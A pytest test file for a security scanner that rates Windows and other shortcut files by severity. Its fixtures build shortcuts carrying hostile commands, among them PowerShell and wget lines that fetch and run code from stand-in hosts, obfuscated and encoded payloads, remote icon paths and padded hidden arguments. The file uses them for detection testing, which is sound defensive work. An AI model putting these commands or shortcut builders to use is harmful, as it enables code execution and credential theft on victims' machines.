"""Shortcuts of Windows, by the specification and read by others; and those that are texts."""

import io
import re
import struct
import subprocess
from pathlib import Path

import LnkParse3
import pytest

from pratique.scanners import wall_pb2 as wall
from pratique.scanners.builtin.shortcuts import Shortcuts
from pratique.scanners.documents.shortcut_texts import LONGEST

PAGE = Path(__file__).resolve().parents[3] / "docs/findings/shortcuts.md"
CLASS = bytes.fromhex("4c0000000114020000000000c000000000000046")
CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
RUNDLL = "C:\\Windows\\System32\\rundll32.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"


def counted(text):
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def local(path):
    """2.3: on a fixed disk."""
    volume = struct.pack("<IIII", 17, 3, 0x1234, 16) + b"\0"
    body = volume + path.encode("cp1252") + b"\0\0"
    size = 28 + len(body)
    return struct.pack("<7I", size, 28, 1, 28, 28 + len(volume), 0, size - 1) + body


def shared(path):
    """2.3.2: on a share."""
    name, _, rest = path.rpartition("\\")
    net = struct.pack("<5I", 20 + len(name) + 1, 2, 20, 0, 0x20000) + name.encode() + b"\0"
    body = net + rest.encode() + b"\0"
    return struct.pack("<7I", 28 + len(body), 28, 2, 0, 0, 28, 28 + len(net)) + body


def lnk(target, arguments="", icon="", block=b"", *, keys=0, show=1):
    """A shortcut: a header (2.1), a place (2.3), strings (2.4), blocks (2.5)."""
    strings = {0x20: arguments, 0x40: icon}
    flags = 0x80 | 0x02 | sum(flag for flag, text in strings.items() if text)
    head = CLASS + struct.pack("<II", flags, 0x20) + bytes(28) + struct.pack("<IIH", 0, show, keys)
    place = shared(target) if target.startswith("\\\\") else local(target)
    told = b"".join(counted(text) for text in strings.values() if text)
    # IconIndex stands before ShowCommand.
    return head.ljust(76, b"\0") + place + told + block + bytes(4)


def environment(path, signature=0xA0000001):
    block = struct.pack("<II", 0x314, signature) + path.encode().ljust(260, b"\0")
    return block + path.encode("utf-16-le").ljust(520, b"\0")


@pytest.fixture
def of(show):
    """What is found in one shortcut: severities by name."""

    def found(octets, name="a.lnk", kind="shortcut"):
        stated = show(Shortcuts(wall.Setup()), octets, name=name, kind=kind)
        assert len({one.name for one in stated.findings}) == len(stated.findings)
        return {one.name: one.severity for one in stated.findings}

    return found


WEB = "-w hidden -c iex(iwr http://host.example/a)"
COMMANDS = [
    (lnk("C:\\Users\\ann\\minutes.docx"), {"Shortcut.Target": "information"}),
    (lnk(WORD, "/n minutes.docx"), {"Shortcut.Target": "information"}),
    (lnk(CMD), {"Shortcut.Command": "suspicious"}),
    (lnk(CMD, "/c start minutes.pdf"), {"Shortcut.Command": "suspicious"}),
    (lnk(CMD, "/c curl -o %temp%\\a.js https://host.example/a"), {"Shortcut.Command": "malicious"}),
    (lnk(CMD, "/c p^o^w^ershell a"), {"Shortcut.Command": "malicious"}),
    (lnk(POWERSHELL, WEB), {"Shortcut.Command": "malicious"}),
    (lnk(POWERSHELL, "-enc SQBFAFgAIAAoAE4AZQB3AC0A"), {"Shortcut.Command": "malicious"}),
    (lnk(POWERSHELL, "-File C:\\tools\\backup.ps1"), {"Shortcut.Command": "suspicious"}),
    (lnk("C:\\Windows\\mshta.exe", "javascript:close()"), {"Shortcut.Command": "malicious"}),
    (lnk("C:\\Windows\\explorer.exe", "/root,cmd /c start a"), {"Shortcut.Command": "suspicious"}),
    (lnk(RUNDLL, "shell32.dll,Control_RunDLL desk.cpl"), {"Shortcut.Command": "suspicious"}),
    (lnk(RUNDLL, "scan.dat,Start"), {"Shortcut.Command": "malicious"}),
    (lnk("C:\\Windows\\System32\\conhost.exe", "mshta http://host.example"),
     {"Shortcut.Command": "malicious"}),
    (lnk("C:\\a", block=environment("%comspec%\\..\\cmd.exe")), {"Shortcut.Command": "suspicious"}),
]  # fmt: skip


@pytest.mark.parametrize(("octets", "expected"), COMMANDS)
def test_what_it_starts(octets, expected, of):
    assert of(octets) == expected


REMOTE = [
    (lnk("\\\\files\\plans\\a.docx"), "information"),
    (lnk("\\\\192.168.1.2\\plans\\a.docx"), "information"),
    (lnk("\\\\files.corp.example\\plans\\a.docx"), "suspicious"),
    (lnk("\\\\files.corp.example\\plans\\a.exe"), "malicious"),
    (lnk("\\\\198.51.100.7\\plans\\a.docx"), "malicious"),
    (lnk("\\\\files.example@80\\plans\\a.docx"), "malicious"),
    (lnk("\\\\files.example\\DavWWWRoot\\a.docx"), "malicious"),
    (lnk("C:\\a.docx", icon="\\\\198.51.100.7\\i.ico"), "malicious"),
    (lnk("C:\\a.docx", icon="\\\\files\\s\\i.ico"), "information"),
    (lnk("C:\\a.docx", block=environment("\\\\198.51.100.7\\s\\i.ico", 0xA0000007)), "malicious"),
    (lnk("C:\\a.docx", icon="%SystemRoot%\\System32\\imageres.dll"), None),
    (lnk("C:\\a.docx", icon="\\\\?\\C:\\i.ico"), None),
]


@pytest.mark.parametrize(("octets", "severity"), REMOTE)
def test_where_it_leads(octets, severity, of):
    assert of(octets).get("Shortcut.Remote") == severity


@pytest.mark.parametrize(
    ("arguments", "severity"),
    [
        (" " * 16 + "evil", "malicious"),
        (" " * 15 + "evil", None),
        ("\t\n\r" * 200 + "evil", "malicious"),
        ("a" + "\u00a0" * 300 + "evil", "malicious"),
        ("a" + " " * 300, "suspicious"),
        ("a" * 260, None),
        ("a" * 261, "suspicious"),
    ],
)
def test_arguments_that_nobody_sees(arguments, severity, of):
    assert of(lnk(WORD, arguments)).get("Shortcut.HiddenArguments") == severity


def test_the_note_says_what_and_how(show):
    octets = lnk(CMD, "/c " + " " * 400 + "start a\u202e.exe", keys=0x0641, show=7)
    stated = show(Shortcuts(wall.Setup()), octets, name="a.lnk", kind="shortcut").findings
    notes = {one.name: one.note for one in stated}

    assert notes["Shortcut.Command"] == (
        f"{CMD} (minimized) (with a hot key) /c start a\N{REPLACEMENT CHARACTER}.exe"
    )
    assert notes["Shortcut.HiddenArguments"].startswith("401 blanks, then start a")


def test_what_stands_before_damage_is_told(of):
    octets = lnk(POWERSHELL, WEB, icon="x" * 50)

    assert of(octets[:-60]) == {"Shortcut.Command": "malicious"}


def test_another_reader_finds_the_same():
    octets = lnk(POWERSHELL, WEB, icon="\\\\198.51.100.7\\i.ico", show=7, keys=0x0641)
    other = LnkParse3.lnk_file(io.BytesIO(octets)).get_json()

    assert other["link_info"]["local_base_path"] == POWERSHELL
    assert other["data"]["command_line_arguments"] == WEB
    assert other["data"]["icon_location"] == "\\\\198.51.100.7\\i.ico"
    assert other["header"]["windowstyle"] == "SW_SHOWMINNOACTIVE"


@pytest.mark.real("lnkinfo")
def test_liblnk_finds_the_same(tmp_path):
    (tmp_path / "a.lnk").write_bytes(lnk(CMD, WEB))
    (tmp_path / "b.lnk").write_bytes(lnk("\\\\files.example\\plans\\a.docx"))
    said = [
        subprocess.run(["lnkinfo", tmp_path / name], check=True, capture_output=True, text=True)
        for name in ("a.lnk", "b.lnk")
    ]

    assert CMD in said[0].stdout
    assert WEB in said[0].stdout
    assert "\\\\files.example\\plans" in said[1].stdout


def url(*lines):
    return "\r\n".join(("[InternetShortcut]", *lines, "")).encode()


LIBRARY = """<?xml version="1.0" encoding="UTF-8"?>
<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">
<name>@windows.storage.dll,-34582</name><version>6</version>
<iconReference>imageres.dll,-1003</iconReference>
<searchConnectorDescriptionList><searchConnectorDescription>
<isDefaultSaveLocation>true</isDefaultSaveLocation>
<simpleLocation><url>{}</url></simpleLocation>
</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"""
SETTING = """<?xml version="1.0" encoding="UTF-8"?><PCSettings>
<SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent">
<ApplicationInformation><AppID>windows.immersivecontrolpanel</AppID>
<DeepLink>{}</DeepLink><Icon>%windir%\\system32\\control.exe</Icon>
</ApplicationInformation></SearchableContent></PCSettings>"""
CLICK_ONCE = """<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1">
<deployment install="true"><deploymentProvider codebase="{}"/></deployment></asmv1:assembly>"""
PLIST = """<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key>
<string>{}</string></dict></plist>"""
TARGET, COMMAND, FROM = "Shortcut.Target", "Shortcut.Command", "Shortcut.Remote"
HIDDEN = "Shortcut.HiddenArguments"
TEXTS = [
    ("a.url", url("URL=https://example.org/page"), {FROM: "information"}),
    ("a.url", url("URL=https://example.org/a.exe?x=1"), {FROM: "suspicious"}),
    ("a.url", url("URL=file://198.51.100.7/s/a.url"), {FROM: "malicious"}),
    ("a.url", url("URL=file://files.example/s/a.docx"), {FROM: "suspicious"}),
    ("a.url", url("URL=file:////files/s/a.docx"), {FROM: "information"}),
    ("a.url", url("URL=file:///C:/Windows/System32/calc.exe"), {COMMAND: "suspicious"}),
    ("a.url", url("URL=https://example.org", "IconFile=\\\\198.51.100.7\\s\\i.ico"),
     {FROM: "malicious"}),
    ("a.url", url("URL=https://example.org", "IconFile=C:\\i.ico", "IconIndex=1"),
     {FROM: "information"}),
    ("a.url", b"\xff\xfe" + url("URL=file://198.51.100.7/s/a.exe").decode().encode("utf-16-le"),
     {FROM: "malicious"}),
    ("a.website", url("URL=https://example.org/", "[{000214A0-0000-0000-C000-000000000046}]"),
     {FROM: "information"}),
    ("a.scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\s\\i.ico\r\n",
     {FROM: "malicious", TARGET: "information"}),
    ("a.library-ms", LIBRARY.format("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}").encode(),
     {TARGET: "information"}),
    ("a.library-ms", LIBRARY.format("\\\\198.51.100.7\\s").encode(), {FROM: "malicious"}),
    ("a.library-ms", LIBRARY.format("\\\\files.example@80\\DavWWWRoot\\s\\").encode(),
     {FROM: "malicious"}),
    ("a.library-ms", LIBRARY.format("&#92;&#92;198.51.100.7&#92;s").encode(), {FROM: "malicious"}),
    ("a.library-ms", LIBRARY.format("http://files.example/s").encode(), {FROM: "suspicious"}),
    ("a.searchConnector-ms", LIBRARY.format("https://files.example/s").encode(),
     {FROM: "suspicious"}),
    ("a.settingcontent-ms", SETTING.format("%windir%\\system32\\control.exe /name x").encode(),
     {TARGET: "information"}),
    ("a.settingcontent-ms", SETTING.format("%windir%\\system32\\cmd.exe /c calc.exe").encode(),
     {COMMAND: "suspicious"}),
    ("a.settingcontent-ms",
     SETTING.format("powershell -c &quot;iex(iwr http://a.example)&quot;").encode("utf-16"),
     {COMMAND: "malicious"}),
    ("a.desktop", b"[Desktop Entry]\nType=Link\nURL=https://example.org\n", {FROM: "information"}),
    ("a.desktop", b"[Desktop Entry]\nType=Application\nExec=gimp %F\nIcon=gimp\n",
     {TARGET: "information"}),
    ("a.desktop", b"[Desktop Entry]\nExec=bash -c 'wget http://a.example/x; sh x'\n",
     {COMMAND: "malicious"}),
    ("a.webloc", PLIST.format("https://example.org").encode(), {FROM: "information"}),
    ("a.inetloc", PLIST.format("file:///System/Applications/Calculator.app").encode(),
     {COMMAND: "suspicious"}),
    ("a.theme", b"[Theme]\r\nBrandImage=\\\\198.51.100.7\\s\\i.png\r\n", {FROM: "malicious"}),
    ("a.rdp", "full address:s:desk.corp.example\r\naudiomode:i:0\r\n".encode("utf-16"), {}),
    ("a.appref-ms", "https://a.example/x.application#x, Culture=neutral".encode("utf-16"),
     {FROM: "suspicious"}),
    ("a.application", CLICK_ONCE.format("https://a.example/x.application").encode(),
     {FROM: "suspicious"}),
    ("a.url", url("X=<", "URL=file://198.51.100.7/s/a.url"), {FROM: "malicious"}),
    ("a.settingcontent-ms", b'<!DOCTYPE a [<!ENTITY b "cmd.exe">]><DeepLink>&b; /c a</DeepLink>',
     {HIDDEN: "suspicious", TARGET: "information"}),
    ("a.desktop", b"[Desktop Entry]\nExec=gimp\nPath=/bin/sh\n", {TARGET: "information"}),
    ("a.url", b"", {}),
    ("a.url", b"\0\xff" * 50, {}),
]  # fmt: skip


@pytest.mark.parametrize(("name", "octets", "expected"), TEXTS)
def test_what_a_text_says(name, octets, expected, of):
    kind = "executable" if name.endswith(("appref-ms", ".application")) else "shortcut"

    assert of(octets, name, kind) == expected


@pytest.mark.parametrize("kind", ["text", "image", "executable", "document", "archive"])
def test_what_is_no_shortcut_is_not_looked_at(kind, of):
    assert of(lnk(POWERSHELL, WEB), "a.bin", kind) == {}


@pytest.mark.parametrize(("size", "found"), [(LONGEST, False), (LONGEST + 1, True)])
def test_a_shortcut_that_is_larger_than_any(size, found, of):
    padded = url("URL=https://example.org").ljust(size, b" ")

    assert ("Shortcut.Oversized" in of(padded, "a.url")) is found
    assert of(padded, "a.url")["Shortcut.Remote"] == "information"


def test_the_whole_walk_tells_it(found_in):
    assert found_in("shortcuts", ("scan.pdf.lnk", lnk(POWERSHELL, WEB))) == {COMMAND: "malicious"}
    assert found_in("shortcuts", ("a.url", url("URL=https://example.org"))) == {FROM: "information"}


def test_the_docs_have_each_finding_and_no_other():
    rows = re.findall(r"^\| `(\w+\.\w+)` \| ([^|]+) \| ([^|]+) \|$", PAGE.read_text(), re.MULTILINE)

    assert {name: (how, what) for name, how, what in rows} == Shortcuts.findings
